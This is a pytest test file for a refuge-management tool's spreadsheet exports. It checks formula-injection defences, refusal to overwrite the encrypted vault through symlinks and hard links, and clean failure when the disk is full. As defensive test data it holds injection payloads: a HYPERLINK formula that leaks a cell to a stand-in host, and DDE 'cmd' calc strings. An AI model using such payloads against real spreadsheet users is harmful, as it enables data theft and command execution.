"""Attacks on the exports, through real encrypted vaults, the real export functions and the
`refugedesk export` command:

- formula injection: text a person typed (house, room, household reference, her name, the
  organisation, the staff member's name) that starts with = + - @ (or a tab, or full-width
  ＝＋－＠, or looks like an error value) must come out of every spreadsheet as that text, never
  as a formula: checked cell by cell after reopening, and in the sheets' raw XML;
- an export over the vault: the vault, its key file, its working files and any backup pair are
  refused, by what the path *is* (symlinks, `..`, hard links), and nothing is written;
- a failed export: exit 1 with one plain line, nothing else on stderr, no partial file, no
  temporary copy of the rows, and no audit event claiming an export.
"""

from __future__ import annotations

import errno
import gc
import hashlib
import io
import os
import re
import subprocess
import sys
import tempfile
import warnings
import zipfile
from datetime import date
from pathlib import Path

import pytest
from conftest import ADMIN_PASSWORD, reopen
from openpyxl import load_workbook
from sqlalchemy import func, select

from refugedesk import access, capacity, houses
from refugedesk.db.keyslots import keyfile_path
from refugedesk.db.models import AuditEvent
from refugedesk.errors import ExportNotSaved, ExportWouldReplaceVault
from refugedesk.reports.occupancy import export_occupancy
from refugedesk.reports.outcomes import export_outcomes
from refugedesk.reports.output import check_export_target

START, END = date(2030, 1, 1), date(2030, 1, 31)

# What a hostile (or unlucky) person could type. Each would be a live formula or an error value
# if written as a plain openpyxl value.
ORGANISATION = "\t=HYPERLINK(\"http://example.invalid/?leak=\"&A5,\"Open the refuge list\")"
#: The organisation's name as the vault keeps it (set-up trims spaces and tabs at the ends).
SAVED_ORGANISATION = ORGANISATION.strip()
STAFF = "=cmd|' /C calc'!A0"
HOUSES = {
    "=HYPERLINK(\"http://example.invalid/\",\"Elm House\")": ["+SUM(1,2)", "-2+3", "#REF!"],
    "＝１＋１ Oak": ["@SUM(1+1)*cmd|' /C calc'!A0", "＋Room", "－Room", "＠Room"],
}
STAYS = [  # (household reference, her name)
    ("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.invalid/\",\"Click me\")"),
    ("+1-1", "-Jane"), ("@REF", "@Jane"), ("#N/A", "=1+1"),
    ("-H-0005", "+44 7700 900000"), ("=A1", "#DIV/0!"), ("＝ref", "＠name"),
]
MESSAGE = ("That file is the vault (or its key file or a backup). Choose another name: "
           "nothing was written.")
FORMULA_XML = re.compile(rb"<(?:\w+:)?f[\s>/]")
ERROR_XML = re.compile(rb"<(?:\w+:)?c\s[^>]*\bt=\"e\"")


def make_hostile_vault(path: Path):
    vault, _code = access.set_up(path, organisation=ORGANISATION, username="ada",
                                 display_name=STAFF, password=ADMIN_PASSWORD)
    rooms = []
    for house, room_names in HOUSES.items():
        hid = houses.add_house(vault, name=house, area="Northtown",
                               opened_on=date(2020, 1, 1))
        rooms += [houses.add_room(vault, house_id=hid, name=r, opened_on=date(2020, 1, 1))
                  for r in room_names]
    for room, (ref, name) in zip(rooms, STAYS, strict=True):
        capacity.arrive(vault, room_id=room, on=date(2030, 1, 3), household_ref=ref, name=name)
    return vault


@pytest.fixture
def hostile(tmp_path):
    vault = make_hostile_vault(tmp_path / "refuge.rdb")
    yield vault
    vault.close()


def typed_texts() -> set[str]:
    return ({SAVED_ORGANISATION + ": occupancy"} | set(HOUSES) | {r for v in HOUSES.values() for r in v}
            | {ref for ref, _ in STAYS} | {name for _, name in STAYS})


def assert_text_only(path: Path) -> set[str]:
    """Every cell of every sheet: no formula, no error value, every str a string cell. And
    no <f> element or error-typed cell anywhere in the raw sheet XML. Returns the texts."""
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")
                  and n.endswith(".xml")]
        assert sheets
        for name in sheets:
            xml = archive.read(name)
            assert not FORMULA_XML.search(xml), name
            assert not ERROR_XML.search(xml), name
    texts: set[str] = set()
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    texts.add(cell.value)
    assert wb.properties.creator == STAFF  # the staff name, as text in the properties
    return texts


def test_occupancy_with_names_writes_every_typed_text_as_text(hostile, tmp_path):
    out = export_occupancy(hostile, start=START, end=END, out=tmp_path / "occ.xlsx",
                           include_names=True)
    texts = assert_text_only(out)
    missing = typed_texts() - texts
    assert not missing  # each shown exactly as typed: no apostrophe, nothing dropped
    stays = list(load_workbook(out)["Stays"].iter_rows(values_only=True))
    assert {(r[0], r[7]) for r in stays[1:]} == set(STAYS)
    daily = next(load_workbook(out)["Daily"].iter_rows(values_only=True))
    assert set(HOUSES) <= set(daily)


def test_occupancy_without_names_and_outcomes_write_text_as_text(hostile, tmp_path):
    occ = export_occupancy(hostile, start=START, end=END, out=tmp_path / "occ.xlsx")
    texts = assert_text_only(occ)
    assert typed_texts() - {name for _, name in STAYS} <= texts
    assert not {name for _, name in STAYS} & texts  # no names without asking
    outcomes = export_outcomes(hostile, start=START, end=END, out=tmp_path / "out.xlsx")
    texts = assert_text_only(outcomes)
    assert {SAVED_ORGANISATION + ": outcomes", *HOUSES} <= texts


def test_cli_exports_write_text_as_text(hostile, tmp_path, monkeypatch, capsys):
    from refugedesk.cli import main

    for report, extra in [("occupancy", ["--include-names"]), ("occupancy", []),
                          ("outcomes", [])]:
        out = tmp_path / f"cli-{report}-{len(extra)}.xlsx"
        monkeypatch.setattr(sys, "stdin", io.StringIO(ADMIN_PASSWORD + "\n"))
        code = main(["export", report, "--db", str(hostile.path), "--user", "ada",
                     "--from", START.isoformat(), "--to", END.isoformat(), "--out", str(out),
                     "--password-stdin", *extra])
        assert code == 0, capsys.readouterr().err
        texts = assert_text_only(out)
        assert set(HOUSES) <= texts
    assert {name for _, name in STAYS} <= assert_text_only(tmp_path / "cli-occupancy-1.xlsx")


def test_the_writer_keeps_leading_tabs_and_error_lookalikes_as_text(tmp_path):
    """Below the domain (which strips names): the one cell writer itself."""
    from openpyxl import Workbook

    from refugedesk.reports.xlsx import append, cell, save_export

    typed = ["=1+1", "\t=1+1", "+1", "-1", "@A1", "＝1", "＋1", "－1", "＠1", "#N/A", "#NAME?",
             "=", " =1+1", "x=1"]
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("S")
    append(ws, typed)
    append(ws, [cell(ws, t) for t in typed])
    append(ws, ["\r=cmd|' /C calc'!A0"])
    save_export(wb, tmp_path / "w.xlsx", vault_path=None)
    rows = list(load_workbook(tmp_path / "w.xlsx")["S"].iter_rows())
    for row in rows[:2]:
        assert [c.value for c in row] == typed
        assert {c.data_type for c in row} == {"s"}
    # XML reads a carriage return as a line feed; it is still text, never a formula.
    assert (rows[2][0].value, rows[2][0].data_type) == ("\n=cmd|' /C calc'!A0", "s")


# --- Finding 7: an export over the vault ----------------------------------------------------


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def xlsx_vault(tmp_path):
    """A vault whose file happens to be called refuge.xlsx (its key file: refuge.rdkeys)."""
    vault, _code = access.set_up(tmp_path / "refuge.xlsx", organisation="Test Refuge",
                                 username="ada", display_name="Ada Test",
                                 password=ADMIN_PASSWORD)
    yield vault
    vault.close()


def protected_files(vault) -> dict[Path, str]:
    files = [vault.path, keyfile_path(vault.path)]
    return {p: digest(p) for p in files}


def test_export_onto_the_vault_is_refused_and_the_vault_survives(xlsx_vault, tmp_path):
    vault = xlsx_vault
    before = protected_files(vault)
    (tmp_path / "sub").mkdir()
    os.symlink(vault.path, tmp_path / "link.xlsx")
    os.link(vault.path, tmp_path / "hard.xlsx")
    os.symlink(keyfile_path(vault.path), tmp_path / "keys-link.xlsx")
    os.symlink(tmp_path, tmp_path / "folder-link")
    targets = [vault.path, tmp_path / "sub" / ".." / "refuge.xlsx", tmp_path / "link.xlsx",
               tmp_path / "hard.xlsx", tmp_path / "keys-link.xlsx",
               tmp_path / "folder-link" / "refuge.xlsx", Path(str(vault.path)[:-5])]
    for out in targets:
        for export in (export_occupancy, export_outcomes):
            with pytest.raises(ExportWouldReplaceVault) as caught:
                export(vault, start=START, end=END, out=out)
            assert str(caught.value) == MESSAGE
    assert protected_files(vault) == before
    assert not list(tmp_path.glob(".refugedesk-export-*"))
    with vault.session() as session:  # nothing claimed in the audit trail
        kinds = session.scalars(select(AuditEvent.kind)).all()
    assert not [k for k in kinds if "exported" in k]
    vault.close()
    reopen(vault.path, "ada", ADMIN_PASSWORD).close()  # and it still opens


def test_every_file_of_the_vault_and_of_a_backup_pair_is_refused(xlsx_vault, tmp_path):
    vault = xlsx_vault
    keys = keyfile_path(vault.path)
    own = [vault.path, Path(f"{vault.path}-wal"), Path(f"{vault.path}-shm"),
           Path(f"{vault.path}-journal"), keys, Path(f"{keys}.next"), Path(f"{keys}.lock"),
           Path(str(vault.path).upper())]
    for out in own:
        with pytest.raises(ExportWouldReplaceVault):
            check_export_target(out, vault_path=vault.path)
    # A backup pair elsewhere, named like a spreadsheet: refused without knowing it.
    backup_db, backup_keys = access.backup(vault, tmp_path / "backups" / "friday.xlsx")
    copied_keys = tmp_path / "keys-copy.xlsx"
    copied_keys.write_bytes(keys.read_bytes())
    for out in [backup_db, backup_keys, copied_keys, Path(f"{backup_db}-wal"),
                tmp_path / "anything.rdb", tmp_path / "anything.rdkeys.next"]:
        with pytest.raises(ExportWouldReplaceVault):
            check_export_target(out)
    # The pair renamed by hand to look like a spreadsheet, and a link to the backup.
    renamed = tmp_path / "backups" / "friday.xlsx"
    renamed.write_bytes(backup_db.read_bytes())
    renamed.with_suffix(".rdkeys").write_bytes(backup_keys.read_bytes())
    os.symlink(backup_db, tmp_path / "b-link.xlsx")
    before = {p: digest(p) for p in (backup_db, renamed, copied_keys)}
    for out in [renamed, tmp_path / "b-link.xlsx", copied_keys]:
        for export in (export_occupancy, export_outcomes):
            with pytest.raises(ExportWouldReplaceVault):
                export(vault, start=START, end=END, out=out)
    assert {p: digest(p) for p in before} == before
    assert (tmp_path / "b-link.xlsx").is_symlink()
    # An ordinary earlier spreadsheet is still replaced, as asked.
    earlier = export_outcomes(vault, start=START, end=END, out=tmp_path / "outcomes.xlsx")
    assert export_outcomes(vault, start=START, end=END, out=earlier) == earlier
    assert load_workbook(earlier).sheetnames[0] == "Summary"


@pytest.mark.parametrize("report", ["occupancy", "outcomes"])
def test_cli_refuses_the_vault_and_its_links(xlsx_vault, tmp_path, report, capfd):
    from refugedesk.cli import main

    vault = xlsx_vault
    before = protected_files(vault)
    os.symlink(vault.path, tmp_path / "link.xlsx")
    os.link(vault.path, tmp_path / "hard.xlsx")
    for out in [vault.path, tmp_path / "link.xlsx", tmp_path / "hard.xlsx",
                tmp_path / "x" / ".." / "refuge.xlsx"]:
        code = main(["export", report, "--db", str(vault.path), "--user", "ada", "--from",
                     START.isoformat(), "--to", END.isoformat(), "--out", str(out),
                     "--password-stdin"])  # refused before the password is even read
        captured = capfd.readouterr()
        assert (code, captured.err, captured.out) == (1, f"refugedesk: {MESSAGE}\n", "")
    assert protected_files(vault) == before


def test_cli_refusal_in_a_real_process_prints_one_plain_line(xlsx_vault, tmp_path):
    vault = xlsx_vault
    vault.close()
    before = protected_files(vault)
    run = subprocess.run(
        [sys.executable, "-W", "always", "-m", "refugedesk", "export", "occupancy", "--db",
         str(vault.path), "--user", "ada", "--from", START.isoformat(), "--to",
         END.isoformat(), "--out", str(vault.path), "--password-stdin"],
        input=ADMIN_PASSWORD + "\n", capture_output=True, text=True, timeout=120,
        env={**os.environ, "PYTHONWARNINGS": "always"})
    assert (run.returncode, run.stderr, run.stdout) == (1, f"refugedesk: {MESSAGE}\n", "")
    assert protected_files(vault) == before


# --- failing part-way -----------------------------------------------------------------------


def export_events(path: Path) -> int:
    vault = reopen(path, "ada", ADMIN_PASSWORD)
    try:
        with vault.session() as session:
            return session.scalar(select(func.count()).select_from(AuditEvent).where(
                AuditEvent.kind.like("%exported%")))
    finally:
        vault.close()


@pytest.mark.parametrize("report", ["occupancy", "outcomes"])
def test_disk_full_part_way_leaves_nothing_and_says_so_plainly(hostile, tmp_path, monkeypatch,
                                                               capfd, report):
    from refugedesk.cli import main

    spool = tmp_path / "spool"  # openpyxl's own temporary files (the rows, in the clear)
    spool.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(spool))
    out_dir = tmp_path / "exports"
    out_dir.mkdir()
    real_write = zipfile.ZipFile.write
    calls = []

    def disk_fills_up(self, *args, **kwargs):  # the first sheet goes in, then the disk is full
        calls.append(args)
        if len(calls) > 1:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real_write(self, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "write", disk_fills_up)
    monkeypatch.setattr(sys, "stdin", io.StringIO(ADMIN_PASSWORD + "\n"))
    # Python prints "Exception ignored in ..." on stderr for errors in cleanup (pytest would
    # otherwise swallow them into a warning): collect them, and every warning, to assert none.
    ignored = []
    monkeypatch.setattr(sys, "unraisablehook", ignored.append)
    with warnings.catch_warnings(record=True) as warned:
        warnings.simplefilter("always")
        code = main(["export", report, "--db", str(hostile.path), "--user", "ada",
                     "--from", START.isoformat(), "--to", END.isoformat(),
                     "--out", str(out_dir / "report.xlsx"), "--password-stdin"])
        gc.collect()  # anything left open would complain now
    assert [str(u.exc_value) for u in ignored] == []
    assert [str(w.message) for w in warned] == []
    captured = capfd.readouterr()
    assert len(calls) == 2
    assert code == 1
    assert captured.err == ("refugedesk: The disk is full, so the file could not be saved and "
                            "nothing was written. Free some space or choose another place.\n")
    assert list(out_dir.iterdir()) == []
    assert list(spool.iterdir()) == []
    hostile.close()
    assert export_events(hostile.path) == 0


def test_a_folder_that_cannot_be_made_leaves_nothing(hostile, tmp_path, capfd, monkeypatch):
    from refugedesk.cli import main

    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file, not a folder")
    before = sorted(tmp_path.iterdir())
    monkeypatch.setattr(sys, "stdin", io.StringIO(ADMIN_PASSWORD + "\n"))
    code = main(["export", "occupancy", "--db", str(hostile.path), "--user", "ada",
                 "--from", START.isoformat(), "--to", END.isoformat(),
                 "--out", str(blocker / "deeper" / "occ.xlsx"), "--password-stdin"])
    captured = capfd.readouterr()
    assert (code, captured.err) == (1, "refugedesk: That folder does not exist or cannot be "
                                       "used, so nothing was written. Choose another folder.\n")
    assert blocker.read_text() == "a file, not a folder"
    assert sorted(tmp_path.iterdir()) == before
    with pytest.raises(ExportNotSaved):
        export_outcomes(hostile, start=START, end=END, out=blocker / "out.xlsx")
